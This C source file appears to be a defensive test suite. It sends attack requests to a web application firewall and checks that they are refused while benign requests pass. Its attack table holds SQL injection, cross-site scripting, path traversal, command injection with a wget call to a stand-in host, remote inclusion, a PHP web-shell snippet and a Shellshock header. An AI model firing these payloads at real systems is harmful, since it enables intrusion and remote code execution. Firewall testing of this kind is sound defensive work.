/* waf.c — attacks at the canaries' application, from outside and without a session: the rules
 * refuse them before anybody asks who is there. And what people send, which they must not. */
#include <stdio.h>

#include "base/checked.h"
#include "probe.h"

static const char app_path[] = "/.rempart/canary/";

struct trial {
    const char *family; /* of the attack */
    const char *query;  /* behind the path, encoded; NULL = none */
    const char *type;   /* of the body; NULL = GET */
    const char *body;
    const char *header; /* one more; NULL = none */
};

static const char form[] = "application/x-www-form-urlencoded";
static const char json[] = "application/json";

static const struct trial attacks[] = {
    {RP_WORDS("SQL injection"), "?id=1%27%20OR%20%271%27%3D%271", NULL, NULL, NULL},
    {RP_WORDS("SQL injection"), "?id=1%20UNION%20SELECT%20password%20FROM%20users--", NULL, NULL,
     NULL},
    {RP_WORDS("SQL injection"), NULL, form, "name=x%27%3B%20DROP%20TABLE%20users%3B--", NULL},
    {RP_WORDS("SQL injection"), NULL, json, "{\"a\":[{\"b\":\"1' UNION SELECT 1,2,3--\"}]}", NULL},
    {RP_WORDS("cross-site scripting"), "?q=%3Cscript%3Ealert(1)%3C/script%3E", NULL, NULL, NULL},
    {RP_WORDS("cross-site scripting"), NULL, form, "c=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
     NULL},
    {RP_WORDS("cross-site scripting"), NULL, json, "{\"html\":\"<svg onload=alert(1)>\"}", NULL},
    {RP_WORDS("cross-site scripting"), NULL, NULL, NULL,
     "Referer: https://a/<script>alert(1)</script>"},
    {RP_WORDS("path traversal"), "?file=../../../../etc/passwd", NULL, NULL, NULL},
    {RP_WORDS("path traversal"), "?file=..%2f..%2f..%2fwindows%2fwin.ini", NULL, NULL, NULL},
    {RP_WORDS("command injection"), "?host=127.0.0.1%3Bcat%20/etc/passwd", NULL, NULL, NULL},
    {RP_WORDS("command injection"), NULL, form, "ip=%60wget%20http%3A%2F%2Fevil.example%2Fa%60",
     NULL},
    {RP_WORDS("remote inclusion"), "?page=http://192.0.2.7/shell.txt%3F", NULL, NULL, NULL},
    {RP_WORDS("code injection"), NULL, form, "x=%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E", NULL},
    {RP_WORDS("code injection"), NULL, NULL, NULL, "User-Agent: () { :; }; /bin/bash -c id"},
    {RP_WORDS("a vulnerability scanner"), NULL, NULL, NULL, "User-Agent: sqlmap/1.7.2#stable"},
};

static const struct trial benign[] = {
    {NULL, "?page=2&sort=price&size=42", NULL, NULL, NULL},
    {NULL, "?q=union%20of%20colours%2C%20select%20the%20best", NULL, NULL, NULL},
    {NULL, "?next=/account/orders&from=2026-01-01", NULL, NULL, NULL},
    {NULL, "?nom=d%27Arcy%20L%27H%C3%B4pital", NULL, NULL, NULL},
    {NULL, NULL, form, "comment=Bonjour%2C+je+voudrais+50+%25+de+moins+%3A-%29", NULL},
    {NULL, NULL, form,
     "title=Caf%C3%A9+%26+croissants&price=4.50&note=%C2%AB+%C3%A0+emporter+%C2%BB", NULL},
    {NULL, NULL, json, "{\"title\":\"Summer sale\",\"items\":[1,2,3],\"open\":true,\"note\":null}",
     NULL},
    {NULL, NULL, NULL, NULL, "Cookie: lang=fr; theme=dark; cart=4417"},
};

static rp_err attempt(struct probe *probe, const struct trial *trial, long *ret_status) {
    struct http *http = probe_browser(probe);
    if (!http) {
        return RP_ERR(NO_MEMORY);
    }
    char path[256];
    snprintf(path, sizeof path, "%s%s", app_path, trial->query ? trial->query : "");
    const char *const headers[] = {"Accept: text/html",
                                   trial->header ? trial->header : "Accept-Language: fr", NULL};
    _cleanup_answer_ struct http_answer answer = http_answer_new();
    const struct http_request request = {.method = trial->type ? "POST" : "GET",
                                         .path = path,
                                         .headers = headers,
                                         .content_type = trial->type,
                                         .body = trial->body ? rp_view_from_cstr(trial->body)
                                                             : (rp_view){NULL, 0}};
    rp_err err = http_ask(http, &request, &answer);
    *ret_status = answer.status;
    http_free(http);
    return err;
}

/* True when all were refused; else the observation says what was not. */
static bool all_refused(struct probe *probe, struct rp_observation *seen) {
    for (size_t i = 0; i < RP_COUNT_OF(attacks); i++) {
        long status = 0;
        if (!rp_ok(attempt(probe, &attacks[i], &status)) || status >= 500) {
            rp_probe_unsure(seen, "the gate gave no answer (status %ld)", status);
            return false;
        }
        if (status == 429) {
            rp_probe_unsure(seen, "the limits of the gate answered before its rules");
            return false;
        }
        if (status != 403) {
            rp_probe_broken(seen, "%s was let through (status %ld)", attacks[i].family, status);
            return false;
        }
    }
    return true;
}

/*= S58 */
void probe_waf_attacks_blocked(void *ctx, struct rp_observation *seen) {
    if (all_refused(ctx, seen)) {
        rp_probe_holds(seen, "%zu attacks from outside, all refused", RP_COUNT_OF(attacks));
    }
}

/* Who is not signed in is sent to sign in, or told to: anything but a refusal by the rules. */
/*= S58 */
void probe_waf_benign_passes(void *ctx, struct rp_observation *seen) {
    for (size_t i = 0; i < RP_COUNT_OF(benign); i++) {
        long status = 0;
        if (!rp_ok(attempt(ctx, &benign[i], &status)) || status >= 500 || status == 429) {
            rp_probe_unsure(seen, "the gate gave no answer (status %ld)", status);
            return;
        }
        if (status == 403 || status == 413) {
            rp_probe_broken(seen, "an ordinary request was refused (number %zu)", i + 1);
            return;
        }
    }
    rp_probe_holds(seen, "%zu ordinary requests, none refused by the rules", RP_COUNT_OF(benign));
}

/* A body that would cost much to look at: refused by its length, before it is read. */
static bool flood_refused(struct probe *probe, struct rp_observation *seen) {
    enum { LARGE = 256 * 1024 };
    struct rp_buf body = rp_buf_new(LARGE);
    while (body.n + 17 <= LARGE) {
        rp_buf_add_cstr(&body, "a=aaaaaaaaaaaaa&");
    }
    rp_buf_add_byte(&body, 0);
    const struct trial trial = {"a flood", NULL, form, (const char *)body.p, NULL};
    long status = 0;
    rp_err err = rp_buf_err(&body);
    if (rp_ok(err)) {
        err = attempt(probe, &trial, &status);
    }
    rp_buf_done(&body);
    if (!rp_ok(err) || status >= 500) {
        rp_probe_unsure(seen, "the gate gave no answer to a large form (status %ld)", status);
        return false;
    }
    if (status != 413) {
        rp_probe_broken(seen, "a form of a quarter of a megabyte was taken (status %ld)", status);
        return false;
    }
    return true;
}

/*= S64 */
void probe_waf_owasp_classes(void *ctx, struct rp_observation *seen) {
    if (all_refused(ctx, seen) && flood_refused(ctx, seen)) {
        rp_probe_holds(seen, "SQL injection, cross-site scripting, traversal, commands, inclusion, "
                             "code, scanners and an oversized form: all refused");
    }
}
